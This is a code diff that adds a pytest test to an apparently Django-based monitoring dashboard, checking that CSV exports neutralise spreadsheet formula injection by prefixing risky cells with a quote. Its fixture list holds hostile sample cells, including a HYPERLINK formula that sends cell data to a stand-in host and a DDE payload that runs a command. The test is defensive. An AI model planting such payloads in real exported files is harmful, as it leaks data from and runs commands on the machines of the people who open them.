@@ -196,6 +196,26 @@ def test_the_csv_has_a_row_per_month_and_severity(role_clients):
                         ["web", "monitor:7", "1", "1"]]
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tx", "\rx"]
+
+
+def test_the_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(role_clients):
+    """OWASP's advice: text starting with = + - @ tab or CR gets a leading quote; numbers stay numbers."""
+    opened = timezone.now().replace(microsecond=0) - timedelta(hours=2)
+    for number, name in enumerate(FORMULAS, start=1):
+        make_incident(f"INC-{number}", opened=opened, title=name, source_key=f"monitor:{number}")
+        Source.objects.create(key=f"monitor:{number}", kind="monitor", name=name)
+
+    rows = parse_csv(role_clients["super_admin"].get("/dashboard/monitoring/kpis.csv?table=monitors"))
+
+    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in FORMULAS)
+    assert all(row[2:] == ["1", "1"] for row in rows[1:])
+    month = f"{opened.astimezone(UTC):%Y-%m}"
+    months = parse_csv(role_clients["super_admin"].get("/dashboard/monitoring/kpis.csv"))
+    assert [month, "P1", str(len(FORMULAS))] in [row[:3] for row in months]
+
+
 @pytest.mark.parametrize("role", ["no_role", "staff", "engineer"])
 def test_only_super_admins_download_the_csv(role_clients, role):
     assert role_clients[role].get("/dashboard/monitoring/kpis.csv").status_code == 403
